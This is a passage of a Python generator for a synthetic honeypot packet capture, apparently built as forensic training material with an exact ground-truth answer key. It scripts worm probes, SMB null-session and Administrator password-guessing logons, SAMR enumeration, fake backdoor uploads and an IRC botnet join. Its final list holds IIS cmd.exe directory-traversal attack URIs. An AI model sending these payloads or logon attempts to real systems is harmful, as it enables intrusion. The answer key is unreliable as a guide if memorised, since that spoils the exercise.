"""A synthetic capture in the image of Honeynet Scan of the Month 27, with exact ground truth.

Five days (2003-03-01 to 2003-03-05 UTC) seen from a Windows 2000 honeypot, 172.16.134.191
(NetBIOS name PC0191, workgroup SBM): worm probes (Slammer on udp/1434, NBNS node-status on
udp/137, share scans on tcp/139, IIS exploits on tcp/80, Hack-a-Tack on udp/28431), then the
compromise chain: null-password Administrator logons on tcp/445 with SAMR enumeration, the upload
of raddrv.dll and r_server.exe, the radmin backdoor answering on tcp/4899, the honeypot fetching
a tool over HTTP and joining an IRC botnet (irc5.aol.com, 209.196.44.172) whose channel traffic
gives the census of the judges' write-up. Every packet is built from the protocol specifications
(see tcp.py and msgs.py); :func:`build` returns the ground truth of what it wrote, computed from
the generated messages, never from a parser.
"""

from __future__ import annotations

import hashlib
import random
import struct
from bisect import bisect_left
from collections import Counter
from dataclasses import dataclass, field, replace
from email.utils import formatdate
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR

from . import msgs as m
from .tcp import CLIENT, SERVER, Capture, Endpoint, TcpConversation

START = 1046476800.0  # 2003-03-01T00:00:00Z
DAY = 86400.0
HOUR = 3600.0
MINUTE = 60.0

HONEYPOT_IP = "172.16.134.191"
HONEYPOT_MAC = "00:08:74:4f:36:23"
GATEWAY_MAC = "00:00:0c:07:ac:01"
NETBIOS_NAME = "PC0191"
WORKGROUP = "SBM"

IRC_SERVER_IP = "209.196.44.172"
IRC_SERVER_NAME = "irc5.aol.com"
IRC_NICK = "rgdiuggac"
IRC_CHANNEL = "#xb0tn3tx"
IRC_KEY = "k3yz"
IRC_TOPIC = ".advscan netbios 100 5 0 -r -s"
IRC_ODD_CHANNEL = b"#b\xf6tn\xe9t"  # Latin-1 bytes: not valid UTF-8
IRC_OWNER = "h4x0r"
KBPS_PER_BOT = 56

# Fixed actors (public-looking addresses chosen for this scenario; crowds are drawn at random).
ACTORS = {
    "irc_refused": "63.211.17.228",
    "irc_silent": "217.199.175.12",
    "irc_nick_in_use": "195.159.47.20",
    "irc_owner": "80.58.22.147",
    "smb445_uploader": "81.50.88.172",
    "smb445_psexec": "218.64.120.9",
    "smb445_enum_a": "24.167.51.214",
    "smb445_enum_b": "200.204.8.133",
    "smb445_enum_c": "61.177.40.95",
    "smb445_enum_d": "66.167.203.58",
    "smb445_enum_e": "212.49.77.130",
    "smb445_logon_failure": "80.133.72.6",
    "http_scanner": "211.217.92.34",
    "http_cmd_overflow": "148.235.16.81",
    "http_codered": "64.9.233.45",
    "http_webdav": "213.23.41.190",
    "http_browser": "68.45.120.201",
    "hackatack": "12.236.49.76",
    "dns_resolver": "66.133.62.33",
    "download_server": "65.110.39.20",
}

LUSERS = (
    (251, ":There are 0 users and 4752 invisible on 4 servers"),
    (252, "1 :IRC Operators online"),
    (254, "4 :channels formed"),
    (255, ":I have 346 clients and 1 servers"),
    (265, ":Current local  users: 346  Max: 348"),
    (266, ":Current global users: 4752  Max: 4765"),
    (250, ":Highest connection count: 349 (348 clients) (378 since server was (re)started)"),
)

# Node-status name table of the honeypot (RFC 1002 4.2.18): (name, suffix, flags).
_U = m.NB_ACTIVE
_G = m.NB_ACTIVE | m.NB_GROUP
NB_BASE = (
    (b"PC0191", 0x00, _U),
    (b"PC0191", 0x20, _U),
    (b"SBM", 0x00, _G),
    (b"PC0191", 0x03, _U),
    (b"SBM", 0x1E, _G),
    (b"SBM", 0x1D, _U),
    (b"\x01\x02__MSBROWSE__\x02", 0x01, _G),
)
NB_INET = (b"INet~Services", 0x1C, _G)
NB_IS = (b"IS~PC0191".ljust(15, b"\x00"), 0x00, _U)  # NUL-padded, as in the original capture
NB_IWAM = (b"IWAM_PC0191", 0x03, _U)
NB_ADMIN = (b"ADMINISTRATOR", 0x03, _U)
# How the table changed over the five days: (responses, extra names), in time order.
NB_EPOCHS = (
    (24, (NB_INET, NB_IS, NB_IWAM)),
    (16, (NB_INET, NB_IS, NB_ADMIN)),
    (12, (NB_ADMIN,)),
    (12, ()),
)

SLAMMER_LEN = 376


# ------------------------------------------------------------------------------------------------
# Ground truth records


@dataclass(frozen=True, slots=True)
class Flow:
    """One TCP connection as generated (application bytes exclude headers and retransmissions)."""

    purpose: str
    client: str
    cport: int
    server: str
    sport: int
    state: str  # refused | unanswered | closed | reset | fin_unacked | open
    syn_seen: bool
    frames: tuple[int, ...]
    packets: tuple[int, int]  # client->server, server->client
    app_bytes: tuple[int, int]
    md5: tuple[str, str]  # md5 of each direction's reassembled payload
    retransmissions: int
    note: str = ""

    @property
    def first_frame(self) -> int:
        return self.frames[0]

    @property
    def last_frame(self) -> int:
        return self.frames[-1]


@dataclass(frozen=True, slots=True)
class FileTruth:
    """A file written over SMB (or downloaded over HTTP) and its exact content."""

    name: str  # as on the wire: SMB file name or HTTP URI
    share: str
    client: str
    content: bytes
    md5: str
    sha256: str
    first_frame: int  # the request that opened/requested it
    last_frame: int  # the close (SMB) or the last response segment (HTTP)


@dataclass(frozen=True, slots=True)
class IrcTruth:
    server_ip: str
    server_name: str
    nick: str
    channel: str
    key: str
    topic: str
    refused_server: str
    silent_server: str
    nick_in_use_server: str
    nick_in_use_nick: str
    lusers: tuple[tuple[int, str], ...]
    users_reported: int  # from 251 / 266
    names: tuple[str, ...]  # NAMES tokens as sent, with @/+ prefixes
    names_count: int
    join_lines: int  # JOIN messages in the server->client stream (the bot's own included)
    quit_lines: int
    join_hosts: int  # distinct hosts, case-insensitive, as `sort -fu`
    quit_hosts: int
    union_hosts: int
    union_hosts_case_sensitive: int
    bandwidth_kbps: int  # union_hosts * 56
    nick_changes: int
    pings: int
    kicks: int
    parts: int
    split_lines: tuple[bytes, ...]  # server lines cut across TCP segments (mid-line splits)
    split_frames: tuple[int, ...]  # server segments that begin or end inside a line
    server_lines: tuple[bytes, ...]  # every server->client line of the main session, no CRLF
    client_lines: tuple[bytes, ...]
    bot_commands: tuple[str, ...]  # PRIVMSG texts that are bot commands, in order
    dcc_offer: str
    odd_channel: bytes
    server_stream: bytes  # the main session, server->client payload
    client_stream: bytes
    command_counts: tuple[tuple[str, int], ...]  # server->client commands/numerics, sorted
    client_command_counts: tuple[tuple[str, int], ...]


@dataclass(frozen=True, slots=True)
class NbnsTruth:
    queries: int
    responses: int
    distinct_queries: int  # distinct query payloads
    transaction_ids: tuple[int, ...]
    sources: tuple[str, ...]
    unanswered_frame: int
    name_counts: tuple[tuple[str, int], ...]  # "PC0191<00>" -> responses listing it
    mac: str


@dataclass(frozen=True, slots=True)
class SmbAttack:
    """One tcp/445 attacker."""

    client: str
    null_session: bool
    admin_logon: str  # "success" | "failure" | "none"
    samr_calls: tuple[str, ...]
    shares: tuple[tuple[str, str], ...]  # (path, status name)
    files: tuple[str, ...]
    domain_users: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class HttpRequest:
    client: str
    method: str
    uri: str
    size: int  # request bytes (headers + body)
    status: int | None  # None: never answered
    frame: int


@dataclass(frozen=True, slots=True)
class GroundTruth:
    path: Path
    packets: int
    size: int
    md5: str
    sha256: str
    first_time: float
    last_time: float
    honeypot: str
    honeypot_mac: str
    netbios_name: str
    workgroup: str
    remote_hosts: tuple[str, ...]
    hosts_by_role: dict[str, tuple[str, ...]]
    flows: tuple[Flow, ...]
    events: dict[str, int]  # key event -> frame number
    files: tuple[FileTruth, ...]
    irc: IrcTruth
    nbns: NbnsTruth
    slammer_sources: tuple[str, ...]
    slammer_count: int
    slammer_md5: str
    smb139_paths: tuple[tuple[str, int], ...]
    smb139_session_only: str
    smb445: tuple[SmbAttack, ...]
    http_requests: tuple[HttpRequest, ...]
    http_hosts_ge_100: tuple[str, ...]
    cmd_overflow_count: int
    radmin_failed: int
    radmin_client: str
    hackatack_frame: int
    dns_query: str
    dns_answer: str
    probe_only_hosts: tuple[str, ...]
    icmp_hosts: tuple[str, ...]
    fin_tail_ports: tuple[int, ...]

    def flows_for(self, purpose: str) -> tuple[Flow, ...]:
        return tuple(f for f in self.flows if f.purpose == purpose)


# ------------------------------------------------------------------------------------------------
# Builder


_PUBLIC_FIRST_OCTETS = (
    12,
    24,
    61,
    62,
    63,
    64,
    65,
    66,
    67,
    68,
    80,
    81,
    82,
    193,
    194,
    195,
    200,
    201,
    202,
    210,
    211,
    212,
    213,
    217,
    218,
    219,
    220,
    221,
)


@dataclass(slots=True)
class _Pending:
    purpose: str
    conv: TcpConversation
    state: str
    note: str = ""


@dataclass(slots=True)
class _Builder:
    rng: random.Random
    irc_lines: int
    cap: Capture = field(init=False)
    hp: Endpoint = field(init=False)
    used_ips: set[str] = field(default_factory=set)
    hosts: dict[str, Endpoint] = field(default_factory=dict)
    roles: dict[str, list[str]] = field(default_factory=dict)
    flows: list[_Pending] = field(default_factory=list)
    events: dict[str, int] = field(default_factory=dict)
    files: list[tuple[str, str, str, bytes, int, int]] = field(default_factory=list)
    http: list[tuple[str, str, str, int, int | None, int]] = field(default_factory=list)
    smb445: list[SmbAttack] = field(default_factory=list)
    extra: dict[str, object] = field(default_factory=dict)
    ports: dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.cap = Capture(self.rng)
        self.hp = Endpoint(HONEYPOT_IP, HONEYPOT_MAC, ttl=128, local=True)
        self.used_ips.update(ACTORS.values())
        self.used_ips.update({IRC_SERVER_IP, HONEYPOT_IP})

    # -- hosts ----------------------------------------------------------------------------

    def host(self, ip: str, role: str) -> Endpoint:
        ep = self.hosts.get(ip)
        if ep is None:
            ttl = self.rng.choice((47, 52, 109, 113, 114, 116, 118, 240, 243))
            ep = Endpoint(ip, GATEWAY_MAC, ttl=ttl)
            self.hosts[ip] = ep
        lst = self.roles.setdefault(role, [])
        if ip not in lst:
            lst.append(ip)
        return ep

    def new_ip(self) -> str:
        while True:
            r = self.rng
            ip = f"{r.choice(_PUBLIC_FIRST_OCTETS)}.{r.randrange(1, 255)}.{r.randrange(256)}.{r.randrange(1, 255)}"
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def eport(self, ep: Endpoint) -> int:
        """The next ephemeral client port of a host: Windows hands them out in sequence from
        1025 to 5000, so one host never reuses a port within the capture."""
        nxt = self.ports.get(ep.ip)
        if nxt is None:
            nxt = self.rng.randrange(1025, 3500)
        self.ports[ep.ip] = nxt + self.rng.randrange(1, 4)
        return nxt

    def conv(
        self,
        client: Endpoint,
        cport: int,
        server: Endpoint,
        sport: int,
        t: float,
        rtt: float | None = None,
    ) -> TcpConversation:
        rtt = rtt if rtt is not None else self.rng.uniform(0.04, 0.35)
        return self.cap.tcp(client, cport, server, sport, t=t, rtt=rtt)

    def record(self, purpose: str, conv: TcpConversation, state: str, note: str = "") -> None:
        self.flows.append(_Pending(purpose, conv, state, note))


def _pe_file(rng: random.Random, size: int, strings: list[bytes]) -> bytes:
    """A small fake PE image: DOS header ("MZ", e_lfanew), DOS stub, "PE\\0\\0" + COFF header,
    then filler with the given strings embedded. Not executable; only looks like one."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0)
    struct.pack_into("<I", dos, 60, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    head = bytes(dos) + stub
    head += b"\x00" * (0x80 - len(head))
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x014C, 3, 0x3E5A1C00, 0, 0, 0xE0, 0x210E)
    body = bytearray(rng.randbytes(size - len(head) - len(coff)))
    pos = 0x200
    for s in strings:
        body[pos : pos + len(s) + 2] = b"\x00" + s + b"\x00"
        pos += len(s) + 2 + rng.randrange(200, 700)
    return head + coff + bytes(body[: size - len(head) - len(coff)])


def _filetime(t: float) -> int:
    """Windows FILETIME (100 ns since 1601-01-01)."""
    return int((t + 11644473600) * 10_000_000)


# ------------------------------------------------------------------------------------------------
# Background: Slammer, NBNS, Hack-a-Tack, probes, ICMP


def _slammer(b: _Builder) -> None:
    rng = b.rng
    payload = b"\x04" + b"\x01" * 96 + rng.randbytes(SLAMMER_LEN - 97)
    sources = [b.host(b.new_ip(), "slammer") for _ in range(9)]
    times = sorted([START + 7.3] + [START + rng.uniform(600, 5 * DAY - 600) for _ in range(54)])
    for i, t in enumerate(times):
        src = sources[i % len(sources)] if i < 18 else rng.choice(sources)
        h = b.cap.udp(t, src, rng.randrange(1025, 65535), b.hp, 1434, payload)
        if i == 0:
            b.events["slammer_first"] = h
    b.extra["slammer_payload"] = payload
    b.extra["slammer_count"] = len(times)


def _nbns(b: _Builder) -> None:
    rng = b.rng
    # Five scanning tools, each with its fixed transaction id (the write-up's five queries).
    tools = [(b.host(b.new_ip(), "nbns"), trn) for trn in (0x0080, 0x8C11, 0x1A2B, 0x00F4, 0x7E01)]
    extra_sources = [b.host(b.new_ip(), "nbns") for _ in range(2)]
    times = sorted(START + rng.uniform(1200, 5 * DAY - 1200) for _ in range(65))
    silent = 29  # the one query left unanswered
    plan = [names for count, names in NB_EPOCHS for _ in range(count)]
    name_counts: Counter[str] = Counter()
    responded = 0
    txids: set[int] = set()
    sources: set[str] = set()
    for i, t in enumerate(times):
        src, trn = tools[i % 5]
        if i % 13 == 7:  # a few queries come from other hosts using a known tool's id
            src = extra_sources[i % 2]
        sport = 137 if i % 3 else rng.randrange(1025, 5000)
        txids.add(trn)
        sources.add(src.ip)
        h = b.cap.udp(t, src, sport, b.hp, 137, m.nbns_node_status_query(trn))
        if i == silent:
            b.events["nbns_unanswered"] = h
            continue
        extra = plan[responded]
        responded += 1
        table = list(NB_BASE) + list(extra)
        rsp = m.nbns_node_status_response(trn, table, bytes.fromhex(HONEYPOT_MAC.replace(":", "")))
        b.cap.udp(t + rng.uniform(0.0003, 0.002), b.hp, 137, src, sport, rsp)
        for name, suffix, _f in table:
            name_counts[_nb_label(name, suffix)] += 1
    b.extra["nbns"] = (len(times), responded, sorted(txids), sorted(sources), name_counts)


def _nb_label(name: bytes, suffix: int) -> str:
    """tshark-style label: printable bytes as is, others as <xx>; padding spaces dropped."""
    text = "".join(chr(c) if 0x20 < c < 0x7F else f"<{c:02x}>" for c in name.rstrip(b" "))
    return f"{text}<{suffix:02x}>"


def _hackatack(b: _Builder) -> None:
    src = b.host(ACTORS["hackatack"], "hackatack")
    h = b.cap.udp(START + 1 * DAY + 21 * HOUR + 17 * MINUTE + 4.2, src, 28432, b.hp, 28431, b"\x00")
    b.events["hackatack"] = h


def _probes(b: _Builder) -> None:
    """SYN-only scans of other ports (no payload ever) and ICMP echo."""
    rng = b.rng
    closed = (21, 23, 1080, 3128, 8080, 6129, 27374, 5000, 1433, 22)
    opened = (135, 443)
    for _ in range(8):
        src = b.host(b.new_ip(), "probe_only")
        t = START + rng.uniform(HOUR, 5 * DAY - HOUR)
        for port in rng.sample(closed + opened, 3):
            c = b.conv(src, b.eport(src), b.hp, port, t)
            if port in opened:
                c.half_open()
                b.record("probe", c, "reset", f"half-open scan of tcp/{port}")
            else:
                c.refused()
                b.record("probe", c, "refused", f"closed tcp/{port}")
            t += rng.uniform(0.2, 3.0)
    for k in range(2):
        src = b.host(b.new_ip(), "icmp")
        t = START + rng.uniform(HOUR, 5 * DAY - HOUR)
        for seq in range(4):
            payload = b"abcdefghijklmnopqrstuvwabcdefghi"
            b.cap.icmp_echo(
                t + seq,
                src,
                b.hp,
                ident=0x0200 + k,
                seq=0x0100 * (seq + 1),
                payload=payload,
                reply_after=rng.uniform(0.0002, 0.001),
            )


# ------------------------------------------------------------------------------------------------
# tcp/139


def _smb139(b: _Builder) -> None:
    rng = b.rng
    crowd = [b.host(b.new_ip(), "smb139") for _ in range(20)]
    callers = [b"AGENT", b"ANYNAME", b"OPA"]
    kinds = ["bare"] * 31 + ["full"] * 12 + ["negative"] * 8 + ["ipc"] * 2 + ["session_only"]
    times = sorted(START + rng.uniform(2 * HOUR, 5 * DAY - 2 * HOUR) for _ in kinds)
    rng.shuffle(kinds)
    path_counts: Counter[str] = Counter()
    ipc_hosts = [b.host(b.new_ip(), "smb139") for _ in range(2)]
    only_host = b.host(b.new_ip(), "smb139")
    unused = list(crowd)  # every allocated host must appear in the capture (ground truth)
    for t, kind in zip(times, kinds, strict=True):
        if kind == "ipc":
            src = ipc_hosts.pop()
        elif kind == "session_only":
            src = only_host
        elif unused:
            src = unused.pop()
        else:
            src = rng.choice(crowd)
        c = b.conv(src, b.eport(src), b.hp, 139, t)
        caller = rng.choice(callers)
        sess = m.nbss_session_request(NETBIOS_NAME.encode(), caller)
        c.handshake()
        if kind == "negative":
            tc = m.smb_message(
                m.smb_header(m.SMB_COM_TREE_CONNECT_ANDX, reply=False, unicode=False, mid=1),
                [_tree_connect_oem("\\\\PC0191\\C")],
            )
            c.send(CLIENT, sess + m.nbss(0, tc), ack=False)
            c.send(SERVER, m.nbss_negative(0x82), ack=False)
            c.close(SERVER, peer_closes=False)
            c.reset(CLIENT)
            path_counts["\\\\PC0191\\C"] += 1
            b.record("smb139", c, "reset", "session refused (called name not present)")
            continue
        c.send(CLIENT, sess, ack=False)
        c.send(SERVER, m.nbss_positive())
        if kind == "session_only":
            c.wait(rng.uniform(1, 4))
            c.close(CLIENT)
            b.extra["smb139_session_only"] = src.ip
            b.record("smb139", c, "closed", "session request only")
            continue
        if kind == "bare":
            tc = m.smb_message(
                m.smb_header(m.SMB_COM_TREE_CONNECT_ANDX, reply=False, unicode=False, mid=1),
                [_tree_connect_oem("\\\\PC0191\\C")],
            )
            c.send(CLIENT, m.nbss(0, tc), ack=False)
            c.reset(SERVER)
            path_counts["\\\\PC0191\\C"] += 1
            b.record("smb139", c, "reset", "bare tree connect to C")
            continue
        smb = _SmbSession(b, c, mid=rng.randrange(1, 200))
        smb.negotiate()
        if kind == "full":
            req = m.smb_message(
                smb.hdr(m.SMB_COM_SESSION_SETUP_ANDX, reply=False),
                [m.session_setup_block("", ""), m.tree_connect_block("\\\\PC0191\\C", "A:")],
            )
            c.send(CLIENT, m.nbss(0, req), ack=False)
            c.reset(SERVER)
            path_counts["\\\\PC0191\\C"] += 1
            b.record("smb139", c, "reset", "session setup + tree connect to C")
        else:
            smb.session_setup("", "")
            status = smb.tree_connect("\\\\PC0191\\IPC$", "?????", m.STATUS_ACCESS_DENIED)
            assert status == m.STATUS_ACCESS_DENIED
            c.close(CLIENT)
            path_counts["\\\\PC0191\\IPC$"] += 1
            b.record("smb139", c, "closed", "IPC$ access denied")
    b.extra["smb139_paths"] = path_counts


def _tree_connect_oem(path: str) -> m.SmbBlock:
    """A tree connect in OEM characters, as the old share scanners send it without a session."""
    words = m.ANDX + struct.pack("<HH", 0, 1)
    return m.SmbBlock(m.SMB_COM_TREE_CONNECT_ANDX, words, b"\x00" + m.oem(path) + m.oem("?????"))


# ------------------------------------------------------------------------------------------------
# SMB sessions (tcp/139 after the session request, and direct tcp/445)


class _SmbSession:
    """Drives one SMB1 conversation over a :class:`TcpConversation`; the honeypot answers."""

    def __init__(self, b: _Builder, conv: TcpConversation, *, mid: int = 1) -> None:
        self.b = b
        self.c = conv
        self.mid = mid
        self.pid = b.rng.randrange(0x100, 0xFFFE)
        self.uid = 0
        self.tid = 0
        self.next_uid = 0x0800
        self.next_fid = 0x4000
        self.last_request = -1

    def hdr(self, cmd: int, *, reply: bool, status: int = 0) -> bytes:
        return m.smb_header(
            cmd, reply=reply, status=status, tid=self.tid, pid=self.pid, uid=self.uid, mid=self.mid
        )

    def exchange(
        self,
        cmd: int,
        req_blocks: list[m.SmbBlock],
        resp_blocks: list[m.SmbBlock],
        status: int = 0,
        think: float = 0.0,
    ) -> int:
        req = m.smb_message(self.hdr(cmd, reply=False), req_blocks)
        if think:
            self.c.wait(think)
        hs = self.c.send(CLIENT, m.nbss(0, req), ack=len(req) > 2 * self.c.mss)
        self.last_request = hs[0]
        resp = m.smb_message(self.hdr(cmd, reply=True, status=status), resp_blocks)
        self.c.send(SERVER, m.nbss(0, resp))
        self.mid += 1
        return hs[0]

    def negotiate(self) -> None:
        req = m.smb_message(
            self.hdr(m.SMB_COM_NEGOTIATE, reply=False),
            [
                m.SmbBlock(
                    m.SMB_COM_NEGOTIATE, b"", b"".join(b"\x02" + d + b"\x00" for d in m.DIALECTS)
                )
            ],
        )
        self.c.send(CLIENT, m.nbss(0, req), ack=False)
        resp = m.negotiate_response(
            challenge=self.b.rng.randbytes(8),
            domain=WORKGROUP,
            server=NETBIOS_NAME,
            system_time=_filetime(self.c.t),
            tid=self.tid,
            pid=self.pid,
            uid=self.uid,
            mid=self.mid,
        )
        self.c.send(SERVER, m.nbss(0, resp))
        self.mid += 1

    def session_setup(
        self, account: str, domain: str, *, password: bytes = b"", status: int = 0
    ) -> int:
        blk = m.session_setup_block(account, domain, oem_password=password)
        if status == 0:
            self.uid_pending = self.next_uid
            self.next_uid += 1
            req = m.smb_message(self.hdr(m.SMB_COM_SESSION_SETUP_ANDX, reply=False), [blk])
            h = self.c.send(CLIENT, m.nbss(0, req), ack=False)[0]
            self.uid = self.uid_pending
            resp = m.smb_message(
                self.hdr(m.SMB_COM_SESSION_SETUP_ANDX, reply=True),
                [m.session_setup_response_block()],
            )
            self.c.send(SERVER, m.nbss(0, resp))
            self.mid += 1
            return h
        return self.exchange(
            m.SMB_COM_SESSION_SETUP_ANDX,
            [blk],
            [m.error_block(m.SMB_COM_SESSION_SETUP_ANDX)],
            status,
        )

    def tree_connect(self, path: str, service: str, status: int = 0) -> int:
        blk = m.tree_connect_block(path, service)
        if status:
            self.exchange(
                m.SMB_COM_TREE_CONNECT_ANDX,
                [blk],
                [m.error_block(m.SMB_COM_TREE_CONNECT_ANDX)],
                status,
            )
            return status
        req = m.smb_message(self.hdr(m.SMB_COM_TREE_CONNECT_ANDX, reply=False), [blk])
        self.c.send(CLIENT, m.nbss(0, req), ack=False)
        self.tid = 0x0800 + self.b.rng.randrange(0, 0x100)
        ipc = path.endswith("IPC$")
        resp = m.smb_message(
            self.hdr(m.SMB_COM_TREE_CONNECT_ANDX, reply=True),
            [m.tree_connect_response_block("IPC" if ipc else "A:", "" if ipc else "NTFS")],
        )
        self.c.send(SERVER, m.nbss(0, resp))
        self.mid += 1
        return 0

    def open(self, name: str, *, pipe: bool, size: int = 0) -> tuple[int, int]:
        fid = self.next_fid
        self.next_fid += 1
        if pipe:
            blk = m.nt_create_block(name, access=0x0002019F, disposition=1, options=0)
        else:
            blk = m.nt_create_block(name, access=0x00130197, disposition=5, options=0x44)
        h = self.exchange(
            m.SMB_COM_NT_CREATE_ANDX,
            [blk],
            [
                m.nt_create_response_block(
                    fid, action=1 if pipe else 2, filetime=_filetime(self.c.t), size=size, pipe=pipe
                )
            ],
        )
        return fid, h

    def write_file(self, fid: int, content: bytes, chunk: int = 4096) -> None:
        for off in range(0, len(content), chunk):
            part = content[off : off + chunk]
            self.exchange(
                m.SMB_COM_WRITE_ANDX,
                [m.write_andx_block(fid, off, part)],
                [m.write_andx_response_block(len(part))],
            )

    def close(self, fid: int) -> int:
        return self.exchange(
            m.SMB_COM_CLOSE, [m.close_block(fid)], [m.SmbBlock(m.SMB_COM_CLOSE, b"")]
        )

    def rpc(self, fid: int, request: bytes, response: bytes) -> None:
        self.exchange(
            m.SMB_COM_TRANSACTION,
            [m.trans_pipe_request_block(fid, request)],
            [m.trans_response_block(response)],
        )

    def logoff(self) -> None:
        self.exchange(
            m.SMB_COM_TREE_DISCONNECT,
            [m.SmbBlock(m.SMB_COM_TREE_DISCONNECT, b"")],
            [m.SmbBlock(m.SMB_COM_TREE_DISCONNECT, b"")],
        )
        self.tid = 0
        self.exchange(
            m.SMB_COM_LOGOFF_ANDX,
            [m.SmbBlock(m.SMB_COM_LOGOFF_ANDX, m.ANDX)],
            [m.SmbBlock(m.SMB_COM_LOGOFF_ANDX, m.ANDX)],
        )
        self.uid = 0


DOMAIN_SID = (1, 5, 21, 1708537768, 1580818891, 1957994488)
BUILTIN_SID = (1, 5, 32)
USERS = (
    (500, "Administrator"),
    (501, "Guest"),
    (1000, "TsInternetUser"),
    (1001, "IUSR_PC0191"),
    (1002, "IWAM_PC0191"),
)


def _samr(s: _SmbSession) -> tuple[str, ...]:
    """SAMR enumeration over \\PIPE\\samr; returns the calls made."""
    rng = s.b.rng
    fid, _h = s.open("\\samr", pipe=True)
    call = 1
    s.rpc(
        fid,
        m.rpc_bind(call, m.SAMR_UUID, (1, 0)),
        m.rpc_bind_ack(call, "\\PIPE\\lsass", rng.randrange(0x1000, 0xFFFF)),
    )
    server_h = b"\x00" * 4 + rng.randbytes(16)
    domain_h = b"\x00" * 4 + rng.randbytes(16)
    calls = [
        ("SamrConnect", m.SAMR_CONNECT, m.samr_connect_req(), m.samr_handle_resp(server_h)),
        (
            "SamrEnumerateDomainsInSamServer",
            m.SAMR_ENUMERATE_DOMAINS,
            m.samr_enum_req(server_h),
            m.samr_enum_resp([(0, NETBIOS_NAME), (1, "Builtin")]),
        ),
        (
            "SamrLookupDomainInSamServer",
            m.SAMR_LOOKUP_DOMAIN,
            m.samr_lookup_domain_req(server_h, NETBIOS_NAME),
            m.samr_lookup_domain_resp(DOMAIN_SID),
        ),
        (
            "SamrOpenDomain",
            m.SAMR_OPEN_DOMAIN,
            m.samr_open_domain_req(server_h, DOMAIN_SID),
            m.samr_handle_resp(domain_h),
        ),
        (
            "SamrEnumerateUsersInDomain",
            m.SAMR_ENUMERATE_USERS,
            m.samr_enum_req(domain_h, uac=0x10),
            m.samr_enum_resp(list(USERS)),
        ),
        (
            "SamrCloseHandle",
            m.SAMR_CLOSE_HANDLE,
            m.samr_close_req(domain_h),
            m.samr_handle_resp(b"\x00" * 20),
        ),
        (
            "SamrCloseHandle",
            m.SAMR_CLOSE_HANDLE,
            m.samr_close_req(server_h),
            m.samr_handle_resp(b"\x00" * 20),
        ),
    ]
    for _name, opnum, req, resp in calls:
        call += 1
        s.rpc(fid, m.rpc_request(call, opnum, req), m.rpc_response(call, resp))
    s.close(fid)
    return tuple(c[0] for c in calls)


def _smb445_attack(
    b: _Builder,
    ip: str,
    t: float,
    *,
    uploads: list[tuple[str, str, bytes]],
    admin: str = "success",
    share: str = "\\\\PC0191\\C$",
) -> float:
    """One attacker: negotiate, null session + SAMR, then an Administrator logon and uploads.
    Returns the time the connection ended."""
    rng = b.rng
    src = b.host(ip, "smb445")
    c = b.conv(src, b.eport(src), b.hp, 445, t)
    c.handshake()
    s = _SmbSession(b, c)
    s.negotiate()
    shares: list[tuple[str, str]] = []
    files: list[str] = []
    samr: tuple[str, ...] = ()
    null = admin != "failure"
    if null:
        s.session_setup("", "")
        s.tree_connect("\\\\PC0191\\IPC$", "?????")
        shares.append(("\\\\PC0191\\IPC$", "STATUS_SUCCESS"))
        samr = _samr(s)
        s.logoff()
    if admin == "failure":
        for pw in (b"admin", b"password", b"12345"):
            h = s.session_setup("Administrator", "", password=pw, status=m.STATUS_LOGON_FAILURE)
            b.events.setdefault("smb445_logon_failure", h)
            c.wait(rng.uniform(0.3, 1.0))
        c.close(CLIENT)
        b.record("smb445", c, "closed", "logon failure")
        b.smb445.append(SmbAttack(ip, False, "failure", (), (), (), ()))
        return c.t
    h = s.session_setup("Administrator", "", password=b"")
    if uploads:
        b.events.setdefault("smb445_admin_logon", h)
    s.tree_connect(share, "?????")
    shares.append((share, "STATUS_SUCCESS"))
    for fname, key, content in uploads:
        fid, h_open = s.open(fname, pipe=False, size=len(content))
        b.events.setdefault(f"{key}_open", h_open)
        s.write_file(fid, content)
        h_close = s.close(fid)
        b.files.append((fname, share, ip, content, h_open, h_close))
        files.append(fname)
    s.logoff()
    c.close(CLIENT)
    b.record("smb445", c, "closed", "upload" if uploads else "SAMR enumeration")
    b.smb445.append(
        SmbAttack(
            ip, null, "success", samr, tuple(shares), tuple(files), tuple(u[1] for u in USERS)
        )
    )
    return c.t


# ------------------------------------------------------------------------------------------------
# tcp/4899 radmin


def _radmin_failed(b: _Builder, times: list[float]) -> int:
    n = 0
    for t in times:
        ip = ACTORS["smb445_uploader"] if n % 2 else b.new_ip()
        src = b.host(ip, "radmin")
        c = b.conv(src, b.eport(src), b.hp, 4899, t)
        c.refused(attempts=1 + n % 2)
        b.record("radmin", c, "refused", "port closed before the upload")
        n += 1
    return n


def _radmin_session(b: _Builder, t: float) -> None:
    rng = b.rng
    src = b.host(ACTORS["smb445_uploader"], "radmin")
    c = b.conv(src, b.eport(src), b.hp, 4899, t, rtt=0.18)
    h = c.handshake()[0]
    b.events["radmin_success_syn"] = h
    for i in range(14):
        c.send(CLIENT, rng.randbytes(rng.choice((10, 16, 32, 48, 96))), ack=False)
        c.send(
            SERVER,
            rng.randbytes(rng.choice((10, 64, 320, 1460, 2900, 5120))),
            retransmit_first=(i == 6),
        )
        c.wait(rng.uniform(0.5, 20))
    c.close(CLIENT)
    b.record("radmin", c, "closed", "radmin session (opaque payload)")


# ------------------------------------------------------------------------------------------------
# tcp/80


IIS_404_BODY = (
    b'<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">\r\n'
    b"<html><head><title>The page cannot be found</title></head>\r\n"
    b"<body><h1>The page cannot be found</h1></body></html>\r\n"
)

SCANNER_URIS = (
    "/scripts/root.exe?/c+dir",
    "/MSADC/root.exe?/c+dir",
    "/c/winnt/system32/cmd.exe?/c+dir",
    "/d/winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
